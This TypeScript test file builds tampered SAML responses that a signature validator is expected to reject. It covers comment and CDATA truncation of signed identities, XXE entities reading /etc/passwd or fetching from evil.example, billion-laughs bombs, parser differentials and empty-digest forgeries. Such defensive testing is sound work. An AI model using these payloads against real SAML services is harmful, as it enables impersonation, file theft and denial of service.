import { createHash } from 'node:crypto'
import {
  attribute,
  audiences,
  FORGED,
  GENUINE,
  nameID,
  replace,
  signAssertion,
} from './exchange.ts'
import { type Build, refused, type Vector } from './vector.ts'

/** An address whose beginning is that of the victim; markup is put in after it was signed. */
const LONGER = `${FORGED}.evil.example`
const cutName =
  (markup: string): Build =>
  (e) =>
    replace(
      signAssertion(e.response({ name_id: nameID(LONGER) })),
      LONGER,
      `${FORGED}${markup}.evil.example`,
    )
const cutAttribute =
  (markup: string): Build =>
  (e) =>
    replace(
      signAssertion(e.response({ attributes: attribute('email', LONGER) })),
      `>${LONGER}<`,
      `>${FORGED}${markup}.evil.example<`,
    )
const cutAudience =
  (markup: (foreign: string) => string): Build =>
  (e) => {
    const foreign = '.attacker.example'
    const xml = signAssertion(e.response({ audience: audiences([e.asked.audience + foreign]) }))
    return replace(xml, foreign, markup(foreign))
  }
const mark =
  (insert: string): Build =>
  (e) =>
    replace(e.genuine, '<samlp:Status>', `${insert}<samlp:Status>`)
const prolog =
  (text: string): Build =>
  (e) =>
    text + e.genuine

/** X8: text that two readers cut differently. */
const comments: Vector[] = refused('X8', 'xml_forbidden_markup', {
  'a comment in the NameID': cutName('<!---->'),
  'a comment in the e-mail address': cutAttribute('<!-- -->'),
  'an instruction in the NameID': cutName('<?x?>'),
  'an instruction whose data is the text that was signed': (e) =>
    replace(e.genuine, `>${GENUINE}</saml:NameID>`, `>${FORGED}<?p ${GENUINE}?></saml:NameID>`),
  'an instruction with the rest of the address': (e) =>
    replace(
      signAssertion(e.response({ name_id: nameID(LONGER) })),
      LONGER,
      `${FORGED}<?p .evil.example?>`,
    ),
  'CDATA in the NameID': (e) =>
    replace(e.genuine, `>${GENUINE}</saml:NameID>`, `><![CDATA[${GENUINE}]]></saml:NameID>`),
  'CDATA in the e-mail address': (e) =>
    replace(
      e.genuine,
      `>${GENUINE}</saml:AttributeValue>`,
      `><![CDATA[${GENUINE}]]></saml:AttributeValue>`,
    ),
  'a comment that makes our Audience of a foreign one': cutAudience(
    (foreign) => `<!--${foreign}-->${foreign}`,
  ),
  'an instruction that makes our Audience of a foreign one': cutAudience(
    (foreign) => `<?p ${foreign}?>`,
  ),
  'a comment in the Issuer': (e) =>
    replace(e.genuine, `${e.issuer}</saml:Issuer>`, `${e.issuer}<!--x--></saml:Issuer>`),
  'a comment between elements': mark('<!-- x -->'),
  'a comment before the root': prolog('<!-- x -->'),
  'a comment after the root': (e) => `${e.genuine}<!-- x -->`,
  'an instruction before the root': prolog('<?x y?>'),
  'a stylesheet after the declaration': prolog(
    '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/"?>',
  ),
})

const entities =
  (subset: string): Build =>
  (e) =>
    `<!DOCTYPE r [${subset}]>${e.genuine}`
const bomb = Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
).join('')

/** X9: document types and entities. */
const doctypes: Vector[] = [
  ...refused('X9', 'xml_forbidden_markup', {
    'a harmless document type': prolog('<!DOCTYPE r>'),
    'a document type in lower case': prolog('<!doctype r>'),
    'an external subset': prolog('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'),
    'an external entity': entities('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    'an external entity in the NameID': (e) =>
      entities('<!ENTITY x SYSTEM "file:///etc/passwd">')(e).replace(
        `>${GENUINE}</saml:NameID>`,
        '>&x;</saml:NameID>',
      ),
    'an entity with the forged address': (e) =>
      entities(`<!ENTITY x "${FORGED}">`)(e).replace(
        `>${GENUINE}</saml:NameID>`,
        '>&x;</saml:NameID>',
      ),
    'a parameter entity': entities('<!ENTITY % x SYSTEM "https://evil.example/"> %x;'),
    'a billion laughs': (e) => replace(entities(`<!ENTITY e0 "ha">${bomb}`)(e), 'Mallory', '&e9;'),
    'a quadratic entity': (e) =>
      replace(entities(`<!ENTITY a "${'a'.repeat(30_000)}">`)(e), 'Mallory', '&a;'.repeat(2_000)),
    'an attribute from the document type': entities(
      '<!ATTLIST samlp:Response Version CDATA "2.0">',
    ),
    'an ID from the document type': entities('<!ATTLIST saml:Assertion x ID #IMPLIED>'),
    'a document type after the declaration': prolog('<?xml version="1.0"?><!DOCTYPE r>'),
    'a document type in the middle': mark('<!DOCTYPE r>'),
    'an entity hidden from one parser (CVE-2025-25291)': (e) =>
      `<!DOCTYPE r [<!NOTATION n SYSTEM '"'><!ENTITY x '"]>${e.forgedResponse().replaceAll('"', "'")}<!--'>]>${e.genuine}<!---->`,
  }),
  ...refused('X9', 'xml', {
    'an unknown entity': mark('&nbsp;'),
    'an entity named constructor': mark('&constructor;'),
  }),
]

const onRoot =
  (attributes: string): Build =>
  (e) =>
    replace(e.genuine, ' Version="2.0"', ` Version="2.0" ${attributes}`)

/** X10: what two parsers read differently. */
const differentials: Vector[] = refused('X10', 'xml', {
  'a duplicate attribute': onRoot('Version="2.0"'),
  'an attribute under two prefixes': onRoot('xmlns:p="urn:p" xmlns:q="urn:p" p:x="1" q:x="2"'),
  'an unquoted attribute': (e) => replace(e.genuine, 'Version="2.0"', 'Version=2.0'),
  'an attribute without a value': onRoot('hidden'),
  'a raw < in an attribute': onRoot('x="<"'),
  'an end tag in another case': (e) => e.genuine.replace('</samlp:Response>', '</samlp:response>'),
  'an element that is not closed': mark('<x xmlns="urn:x">'),
  'overlapping elements': mark('<a><b></a></b>'),
  'text after the root': (e) => `${e.genuine}text`,
  'text before the root': prolog('text'),
  'a second root': (e) => e.genuine + e.forgedResponse(),
  'a forged root before the genuine one': (e) => e.forgedResponse() + e.genuine,
  'an undeclared prefix': mark('<x:x/>'),
  'the xmlns prefix bound': onRoot('xmlns:xmlns="urn:a"'),
  'the xml prefix bound elsewhere': onRoot('xmlns:xml="urn:a"'),
  'a prefix undeclared': mark('<a xmlns:samlp=""/>'),
  'a name with two colons': mark('<a:b:c xmlns:a="urn:a"/>'),
  'a local name that begins with a digit': mark('<a:1 xmlns:a="urn:a"/>'),
  ']]> in text': mark(']]>'),
  'a raw & in text': mark('& '),
  'a reference to NUL': mark('&#0;'),
  'a reference to half a surrogate pair': mark('&#xD800;'),
  'a control character': mark('\x01'),
  'U+FFFF': mark('\uffff'),
})

/** X11: namespaces whose canonical form is void or ambiguous, and a digest of nothing. */
const voids: Vector[] = [
  ...refused('X11', 'xml_namespace', {
    'a relative namespace': onRoot('xmlns:n="relative"'),
    'a namespace that is a fragment': onRoot('xmlns:n="#x"'),
    'a namespace of one digit': onRoot('xmlns:n="1"'),
    'a relative namespace, and the digest of nothing': (e) => {
      const empty = createHash('sha256').digest('base64')
      const xml = signAssertion(e.response({ assertion_attributes: ' xmlns:n="urn:n"' }), {
        edit: (signature) =>
          replace(
            signature,
            /<ds:DigestValue>.*<\/ds:DigestValue>/,
            `<ds:DigestValue>${empty}</ds:DigestValue>`,
          ),
      })
      return replace(xml, 'xmlns:n="urn:n"', 'xmlns:n="1"')
    },
    'a namespace with &': onRoot('xmlns:n="urn:a&amp;b"'),
    'a namespace with <': onRoot('xmlns:n="urn:a&lt;"'),
    'a namespace with a quote': onRoot('xmlns:n="urn:a&quot; x=&quot;1"'),
    'a namespace with a space': onRoot('xmlns:n="urn:a b"'),
    'a namespace with a tab': onRoot('xmlns:n="urn:a&#9;"'),
  }),
  ...refused('X11', 'assertion_signature_digest', {
    'a digest of nothing, signed by the right key': (e) =>
      signAssertion(e.response(), {
        edit: (xml) =>
          replace(
            xml,
            /<ds:DigestValue>.*<\/ds:DigestValue>/,
            `<ds:DigestValue>${createHash('sha256').digest('base64')}</ds:DigestValue>`,
          ),
      }),
  }),
]

/** XML that is read differently than it was signed. */
export const TEXT: readonly Vector[] = [...comments, ...doctypes, ...differentials, ...voids]
